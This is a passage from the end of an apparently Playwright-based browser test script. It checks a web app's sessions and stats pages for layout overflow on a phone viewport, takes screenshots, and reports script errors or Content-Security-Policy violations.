    await shot(pp, '12-phone-sessions');
    await pp.goto(`${BASE}/#/sessions/${target}?tab=changes`);
    await pp.locator('.session-meta').waitFor({ timeout: STEP_MS });
    await pp.locator('.diff-file').first().waitFor({ timeout: STEP_MS });
    over = await wide();
    assert(over <= 1, `the session page is ${over}px too wide`);
    await shot(pp, '13-phone-session');
    await pp.goto(`${BASE}/#/stats`);
    await pp.waitForFunction(() => document.querySelectorAll('.stats svg.chart').length >= 5, null, {
      timeout: STEP_MS,
    });
    over = await wide();
    assert(over <= 1, `the stats page is ${over}px too wide`);
    await shot(pp, '14-phone-stats', { fullPage: true });
  });
  await phone.close();

  await check('no script errors or Content-Security-Policy violations', () =>
    problems.length ? problems.slice(0, 3).join(' || ') : undefined,
  );
}

const deadline = setTimeout(() => {
  console.log('FAIL browser test: still running after 240 s');
  process.exit(1);
}, 240000);

try {
  await main();
} catch (e) {
  fail('browser test ran to the end', e && e.stack ? e.stack : e);
}
clearTimeout(deadline);
writeFileSync(join(OUT, 'timings.txt'), timings.join('\n') + '\n');
process.exit(failures ? 1 : 0);
